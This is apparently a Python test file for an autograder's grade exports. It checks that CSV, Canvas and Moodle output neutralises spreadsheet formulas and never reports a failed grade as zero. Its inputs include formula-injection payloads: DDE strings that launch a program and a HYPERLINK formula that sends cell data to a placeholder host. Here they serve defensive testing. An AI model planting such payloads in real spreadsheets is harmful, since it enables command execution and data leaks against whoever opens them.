"""Grades for other programs: nothing in them is executed, and a grade that failed never looks like a grade of 0."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autograde.report import grades_csv, inert
from autograde.report.exports import FORMATS, canvas_csv, class_json, moodle_csv
from tests.autograde.made_results import ADA, FAILED, LAB, a_class, failed

ZOE = replace(ADA, student="Zoë Übermut", score=21.5)
BOTH = [ADA, replace(ADA, lab="lab07", max_score=30, score=7), replace(failed("zoe", "missing"), lab="lab07")]


def rows(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=separator))


def executes(cell: str) -> bool:
    """What a careless spreadsheet does: it looks behind blanks, quotes and unseen signs for that of a formula."""
    seen = "".join(sign for sign in cell if unicodedata.category(sign) not in ("Cc", "Cf") and not sign.isspace())
    first = unicodedata.normalize("NFKC", seen.lstrip('"`“”‘')[:1])
    return first in tuple("=+-@−") or cell.startswith(("\t", "\r", "\n"))


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell) is not None


SIGNS = st.sampled_from("=+-@＝＋－＠﹣⁼−;,|\t\r\n\"'`“‘ \u00a0\u200b\ufeff\u202e\x00\u2028\x85a1")
SLY = st.text(SIGNS, max_size=12) | st.text(max_size=12) | st.sampled_from([
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x/"&A1,"click")', '"=1+1"', "  =1+1",
    "x;=1+1", 'x;"=1+1";', "x\n=1+1", "x\t=1+1", "＝1+1", "'=1+1", "\ufeff=1", "-2+3+cmd|' /C calc'!A0", "%0A=1",
])  # fmt: skip


@settings(deadline=None)
@given(SLY)
def test_no_text_is_executed_however_a_spreadsheet_takes_it_apart(text):
    made = inert(text)
    for cell in [made, *re.split("[;\t\r\n\v\f\x1c-\x1e\x85\u2028\u2029]", made)]:
        assert not executes(cell)
    assert made.replace("'", "") == text.replace("'", ""), "an apostrophe is all that is added"
    assert inert(made) == made


@settings(deadline=None)
@given(SLY, SLY, SLY, st.sampled_from(["csv", "canvas", "moodle"]))
def test_no_cell_of_any_format_is_executed_read_by_commas_semicolons_or_tabs(student, sentence, title, name):
    exercise = replace(ADA.exercises[1], id=title, title=title)
    text = FORMATS[name]([replace(ADA, student=student, sentence=sentence, lab=title or "x", exercises=(exercise,))])
    for line in rows(text):
        assert [cell for cell in line if executes(cell) and cell != "-"] == []
    for separator in ";\t":
        for cell in (cell for line in text.splitlines() for cell in line.split(separator)):
            assert not executes(cell) or is_number(cell)


@pytest.mark.parametrize("text", ["", "ada", "3 of 4", "a=b", "1 - 2", "Zoë", "o'neil", "a, -1", "x@y.org"])
def test_harmless_text_stays_as_it_is(text):
    assert inert(text) == text


@pytest.mark.parametrize("number", [0, -1.5, 3, 2.25])
def test_a_number_stays_a_number(number):
    assert inert(number) == number
    assert f",{number}," in grades_csv([replace(ADA, score=number)])


def test_a_text_over_several_lines_becomes_one_row():
    assert len(grades_csv([replace(ADA, sentence="one\ntwo\r\n\n=three")]).splitlines()) == 2


def test_the_csv_has_a_row_per_submission_and_a_column_per_exercise():
    header, ada, *others = rows(grades_csv([ADA, *(failed(f"no_{status}", status) for status in FAILED)]))
    names = [exercise.id for exercise in ADA.exercises]
    assert header == ["student", "lab", "status", "score", "max_score", *names, "note"]
    assert ada == ["ada", LAB, "graded", "5.5", "20", "4", "0", "1.5", "0", "", "", ""]
    assert [row[2] for row in others] == list(FAILED)
    assert {row[2]: row[3] for row in others} == {
        "timed_out": "0", "kernel_died": "0", "unreadable": "0", "missing": "0", "grader_error": "",
    }  # fmt: skip


def test_canvas_gets_its_five_columns_the_points_possible_and_a_column_per_lab():
    header, possible, ada, zoe = rows(canvas_csv(BOTH))
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", LAB, "lab07"]
    assert possible == ["Points Possible", "", "", "", "", "20", "30"]
    assert ada == ["ada", "", "", "ada", "", "5.5", "7"]
    assert zoe == ["zoe", "", "", "zoe", "", "", ""]


def test_moodle_gets_grade_and_feedback_per_lab_and_a_dash_for_no_grade():
    header, ada, zoe = rows(moodle_csv(BOTH))
    assert header == ["username", LAB, f"{LAB} feedback", "lab07", "lab07 feedback"]
    assert ada[:2] == ["ada", "5.5"] and ada[2].startswith("graded.") and "4.2 Size lookup: 0 of 2" in ada[2]
    assert zoe[1:4] == ["-", "", "-"]
    assert zoe[4].startswith("missing. Nothing was handed in")


@pytest.mark.parametrize("name", ["canvas", "moodle"])
@pytest.mark.parametrize("status", ["missing", "grader_error"])
def test_a_grade_that_is_not_known_is_no_zero(name, status):
    (*_, row) = rows(FORMATS[name]([failed("zoe", status)]))
    assert "0" not in row
    (*_, given_by_hand) = rows(FORMATS[name]([replace(failed("zoe", status), score=12)]))
    assert "12" in given_by_hand


def test_a_notebook_that_ran_and_earned_nothing_is_a_zero():
    assert rows(canvas_csv([replace(ADA, score=0.0)]))[-1][-1] == "0.0"
    assert rows(moodle_csv([failed("zoe", "unreadable")]))[-1][1] == "0"


def test_extra_credit_above_the_maximum_is_exported():
    assert rows(canvas_csv([ZOE]))[-1] == ["Zoë Übermut", "", "", "Zoë Übermut", "", "21.5"]


def test_the_json_holds_every_submission_and_no_answer_of_a_student():
    found = json.loads(class_json([ADA]))
    assert found["submissions"] == [ADA.public()]
    assert "def size_for" not in class_json([ADA])


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_results_make_the_same_bytes(name):
    assert FORMATS[name](a_class(20)) == FORMATS[name](a_class(20))
